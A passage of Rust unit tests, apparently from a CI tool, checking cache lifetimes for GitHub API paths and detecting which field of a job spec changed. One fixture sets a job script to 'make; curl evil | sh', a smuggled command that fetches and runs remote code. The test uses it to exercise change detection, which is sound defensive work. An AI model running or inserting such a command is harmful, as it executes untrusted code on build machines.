        assert_eq!(cache_ttl("/repos/o/r"), Duration::from_secs(60));
        assert_eq!(
            cache_ttl("/repos/o/r/compare/main...abc"),
            Duration::from_secs(30)
        );
        for path in [
            "/repos/o/r/pulls/1",
            "/repos/o/r/collaborators/u/permission",
            "/repos/o/r/issues/comments/5",
        ] {
            assert_eq!(cache_ttl(path), Duration::from_secs(10), "{path}");
        }
    }

    #[test]
    fn the_first_difference_is_named() {
        let a = JobSpec {
            script: "make".into(),
            ..JobSpec::default()
        };
        assert_eq!(first_difference(&a, &a.clone()), None);
        let mut b = a.clone();
        b.script = "make; curl evil | sh".into();
        assert_eq!(first_difference(&a, &b), Some("script"));
        let mut c = a.clone();
        c.resources.gpus = Some(8);
        assert_eq!(first_difference(&a, &c), Some("resources"));
        let mut d = a.clone();
        d.secret_env = vec!["X".into()];
        assert_eq!(first_difference(&a, &d), Some("secret variables"));
    }
}
